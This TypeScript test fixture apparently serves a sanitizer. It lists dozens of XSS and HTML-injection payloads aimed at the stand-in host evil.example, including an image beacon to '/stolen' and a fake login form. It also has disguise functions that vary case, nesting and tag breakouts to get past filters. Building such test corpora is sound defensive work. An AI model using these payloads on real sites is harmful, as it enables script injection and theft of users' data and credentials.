/** The target of every payload's request; nothing answers there. */
const EVIL = "https://evil.example";

const RUN = "window.__ran=1";
const STEAL = `new Image().src='${EVIL}/stolen'`;

/** Scripts, handlers, foreign content, forms, frames, overlays and links: forbidden in operators' texts. */
export const HOSTILE_VECTORS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${EVIL}/a.js"></script>`,
  `<script type="module">import("${EVIL}/a.js")</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${EVIL}/pixel.gif">`,
  `<img srcset="${EVIL}/pixel.gif 1x">`,
  `<img src="data:text/html,<script>${RUN}</script>">`,
  `<img src="//evil.example/pixel.gif" loading="eager">`,
  `<svg onload="${RUN}"><circle r="9"/></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><image href="${EVIL}/pixel.svg"/></svg>`,
  `<svg><use href="${EVIL}/sprite.svg#a"/></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">x</text></a></svg>`,
  `<svg><style>@import url(${EVIL}/a.css)</style></svg>`,
  `<svg><foreignObject><iframe src="${EVIL}"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${RUN}"></annotation-xml></math>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="${EVIL}/a.swf"></object>`,
  `<embed src="${EVIL}/a.svg">`,
  `<applet code="a"></applet>`,
  `<link rel="stylesheet" href="${EVIL}/a.css">`,
  `<link rel="prefetch" href="${EVIL}/a">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  `<base href="${EVIL}/">`,
  `<style>body{display:none}@import "${EVIL}/a.css";</style>`,
  `<form action="${EVIL}"><input name="password" autofocus onfocus="${RUN}"><button>Log in</button></form>`,
  `<button formaction="${EVIL}">x</button><textarea autofocus onfocus="${RUN}"></textarea>`,
  `<select autofocus onfocus="${RUN}"><option>x</select><keygen autofocus onfocus="${RUN}">`,
  `<div style="position:fixed;inset:0;background:url(${EVIL}/a.png)">x</div>`,
  `<p style="background-image:url(${EVIL}/a.png)" class="_dialog" id="root">x</p>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="&#106;avascript:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<a href=" data:text/html,<script>${RUN}</script>">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a><a href="blob:${EVIL}/1">x</a>`,
  `<a href="https://good.example@evil.example/" ping="${EVIL}/ping">x</a>`,
  `<video src="${EVIL}/a.mp4" autoplay onloadstart="${RUN}"></video>`,
  `<audio src="${EVIL}/a.mp3" autoplay onerror="${RUN}"></audio>`,
  `<video poster="${EVIL}/a.png"><source onerror="${RUN}" src="x"></video>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<body onload="${RUN}"><html onclick="${RUN}">`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<dialog open style="position:fixed">x</dialog><div popover>x</div>`,
  `<table background="${EVIL}/a.png"><td background="${EVIL}/b.png">x</table>`,
  `<input type="image" src="${EVIL}/a.png"><isindex type="image" src="${EVIL}/b.png">`,
  `<x-element onclick="${RUN}" tabindex=1 autofocus onfocus="${STEAL}">x</x-element>`,
  `<b><p><xmp><img title="</xmp><img src=x onerror=${RUN}>"></xmp></p></b>`,
];

/** Disguises that smuggle the same past filters. */
const DISGUISES: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) =>
    vector.replace(/<(\/?)(\w+)/g, (_all, slash: string, name: string) => `<${slash}${mixed(name)}`),
  (vector) => `<p>ข้อความ <b>ຂໍ້ຄວາມ ${vector} after</p>`,
  (vector) => `</div></section></dialog>${vector}<!--`,
  (vector) => `<table><tr><td><ul><li>${vector}`,
];

function mixed(name: string): string {
  return name.replace(/(.)(.?)/g, (_pair, first: string, second: string) => first.toUpperCase() + second);
}

/** Every vector in every disguise. */
export const HOSTILE_MARKUP: readonly string[] = HOSTILE_VECTORS.flatMap((vector) =>
  DISGUISES.map((disguise) => disguise(vector)),
);
